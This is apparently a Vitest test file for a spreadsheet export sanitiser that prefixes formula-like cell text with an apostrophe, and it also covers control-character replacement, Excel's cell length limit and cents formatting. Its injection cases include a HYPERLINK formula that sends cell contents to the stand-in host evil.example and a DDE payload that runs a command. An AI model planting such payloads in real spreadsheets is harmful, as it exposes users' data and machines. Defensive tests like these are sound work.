import { describe, expect, test } from "vitest";
import { cellText, plainUnits } from "@/lib/files/cell";

// Whatever a spreadsheet could take for a formula, however it is hidden, begins with an apostrophe; everything else stays as it is.

const formulas: [what: string, text: string][] = [
  ["equals", "=1+1"],
  ["plus", "+57 300 123 4567"],
  ["minus", "-2"],
  ["at", "@SUM(A1)"],
  ["a call", '=HYPERLINK("http://evil.example?x="&A1,"ver")'],
  ["DDE", "=cmd|' /C calc'!A0"],
  ["behind a space", " =1"],
  ["behind many", "    =1"],
  ["behind a space that does not break", "\u00A0=1"],
  ["behind an ideographic space", "\u3000=1"],
  ["behind a thin space", "\u2009@x"],
  ["behind a space of no width", "\u200B=1"],
  ["behind a byte order mark", "\uFEFF=1"],
  ["behind a mark that turns the text", "\u202E=1"],
  ["behind a soft hyphen", "\u00AD=1"],
  ["behind a tab", "\t=1"],
  ["a tab alone", "\ttexto"],
  ["behind CR", "\r=1"],
  ["behind LF", "\n=1"],
  ["LF alone", "\ntexto"],
  ["behind a vertical tab", "\u000B=1"],
  ["behind NUL", "\u0000=1"],
  ["behind a quote", '"=1'],
  ["behind an apostrophe", "'=1"],
  ["full-width equals", "＝1"],
  ["full-width plus", "＋1"],
  ["full-width minus", "－1"],
  ["full-width at", "＠x"],
  ["small equals", "﹦1"],
  ["small plus", "﹢1"],
  ["small minus", "﹣1"],
  ["small at", "﹫x"],
  ["the sign of minus", "−1"],
  ["full width behind an ideographic space", "\u3000＝1"],
];

const harmless = [
  "",
  "L-2026-000001",
  "Ñandú y compañía",
  "a=b",
  "1-2",
  "maker1@demo.example",
  "2026-11-22 10:00:00",
  "株式会社",
  "  texto con espacio",
  "línea\notra línea",
  "¿Por qué?",
  "“comillas”",
];

describe("a cell is never a formula", () => {
  test.each(formulas)("%s", (_, text) => {
    expect(cellText(text)).toMatch(/^'/u);
  });
  test("an apostrophe that was typed does not stand for ours", () => {
    expect(cellText("'=1")).toBe("''=1");
  });
  test.each(harmless)("%j stays", (text) => {
    expect(cellText(text)).toBe(text);
  });
});

test("what breaks a file is replaced, tabs and line breaks apart", () => {
  expect(cellText("a\u0000b\u001Fc\u007Fd\uFFFEe")).toBe("a\uFFFDb\uFFFDc\uFFFDd\uFFFDe");
  expect(cellText("a\uD800b")).toBe("a\uFFFDb");
  expect(cellText("a\tb\r\nc🎁")).toBe("a\tb\r\nc🎁");
});

test("no cell is longer than Excel's", () => {
  const long = cellText("a".repeat(40_000));
  expect(long).toHaveLength(32_767);
  expect(long.endsWith("…")).toBe(true);
});

test.each([
  ["", ""],
  ["0", "0.00"],
  ["5", "0.05"],
  ["-5", "-0.05"],
  ["-99", "-0.99"],
  ["99", "0.99"],
  ["100", "1.00"],
  ["-100", "-1.00"],
  ["123456789012345678", "1234567890123456.78"],
])("%s cents are %s", (cents, expected) => {
  expect(plainUnits(cents, ".")).toBe(expected);
  expect(plainUnits(cents, ",")).toBe(expected.replace(".", ","));
});
